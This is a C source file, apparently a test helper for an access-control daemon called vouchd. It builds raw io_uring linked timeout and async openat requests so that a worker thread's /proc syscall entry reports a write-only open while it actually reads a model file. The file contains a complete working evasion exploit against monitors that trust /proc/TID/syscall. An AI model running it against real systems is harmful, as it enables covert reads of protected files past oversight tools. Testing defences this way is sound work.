/* SPDX-License-Identifier: Apache-2.0 */
/*
 * uring-linked-open - an attack on front ends that trust /proc/TID/syscall
 * to tell a write-only open from a read: an io_uring worker thread created
 * while its task sits in openat(..., O_WRONLY) inherits that task's
 * registers, so /proc/WORKER/syscall reads "openat ... O_WRONLY" while the
 * worker opens a model O_RDONLY.  (tests/cases/vouchd-writers.sh: vouchd
 * must decide that open like any other.)
 *
 *   uring-linked-open MODEL FIFO
 *     SQE0: TIMEOUT 50 ms, IOSQE_IO_HARDLINK -> SQE1: OPENAT(MODEL, O_RDONLY), IOSQE_ASYNC;
 *     then the task blocks in openat(FIFO, O_WRONLY), where the timeout's
 *     completion runs as task work and creates the worker.
 *   Prints "allowed N bytes" (exit 0) or "refused: ERRNO" (exit 1).
 *
 * Raw syscalls, no liburing.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *fifo_path;

static void *unblock(void *arg)
{
	(void)arg;
	usleep(300000);
	if (open(fifo_path, O_RDONLY | O_NONBLOCK) < 0)
		perror("open fifo");
	return NULL;
}

int main(int argc, char **argv)
{
	struct io_uring_params p;
	struct io_uring_sqe *sqes, *s0, *s1;
	struct io_uring_cqe *cqes;
	unsigned *sq_tail, *sq_array, *cq_head, *cq_tail, *sq_mask, *cq_mask, t;
	struct __kernel_timespec ts = { 0, 50 * 1000 * 1000 };
	char *sq, *cq, buf[4096];
	pthread_t th;
	int ring;

	if (argc != 3) {
		fprintf(stderr, "usage: uring-linked-open MODEL FIFO\n");
		return 2;
	}
	fifo_path = argv[2];
	unlink(fifo_path);
	if (mkfifo(fifo_path, 0600) < 0) {
		perror("mkfifo");
		return 2;
	}
	memset(&p, 0, sizeof(p));
	ring = (int)syscall(__NR_io_uring_setup, 8, &p);
	if (ring < 0) {
		perror("io_uring_setup");
		return 2;
	}
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
	sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		    MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) {
		perror("mmap");
		return 2;
	}
	sq_tail = (unsigned *)(sq + p.sq_off.tail);
	sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)(sq + p.sq_off.array);
	cq_head = (unsigned *)(cq + p.cq_off.head);
	cq_tail = (unsigned *)(cq + p.cq_off.tail);
	cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

	t = *sq_tail;
	s0 = &sqes[t & *sq_mask];
	s1 = &sqes[(t + 1) & *sq_mask];
	memset(s0, 0, sizeof(*s0));
	memset(s1, 0, sizeof(*s1));
	s0->opcode = IORING_OP_TIMEOUT;
	s0->fd = -1;
	s0->addr = (unsigned long)&ts;
	s0->len = 1;
	s0->flags = IOSQE_IO_HARDLINK;
	s1->opcode = IORING_OP_OPENAT;
	s1->fd = AT_FDCWD;
	s1->addr = (unsigned long)argv[1];
	s1->open_flags = O_RDONLY;
	s1->flags = IOSQE_ASYNC;
	s1->user_data = 1;
	sq_array[t & *sq_mask] = t & *sq_mask;
	sq_array[(t + 1) & *sq_mask] = (t + 1) & *sq_mask;
	__atomic_store_n(sq_tail, t + 2, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, ring, 2, 0, 0, NULL, 0) < 0) {
		perror("io_uring_enter");
		return 2;
	}
	pthread_create(&th, NULL, unblock, NULL);
	/* Sit in openat(O_WRONLY): the timeout's task work runs in here. */
	if (syscall(SYS_openat, AT_FDCWD, fifo_path, O_WRONLY) < 0)
		perror("openat fifo");
	syscall(__NR_io_uring_enter, ring, 0, 2, IORING_ENTER_GETEVENTS, NULL, 0);
	for (unsigned h = *cq_head; h != *cq_tail; h++) {
		struct io_uring_cqe *c = &cqes[h & *cq_mask];
		ssize_t n;

		if (c->user_data != 1)
			continue;
		if (c->res < 0) {
			printf("refused: %s\n", strerror(-c->res));
			return 1;
		}
		n = read(c->res, buf, sizeof(buf));
		printf("allowed %zd bytes\n", n);
		return 0;
	}
	printf("no completion\n");
	return 2;
}
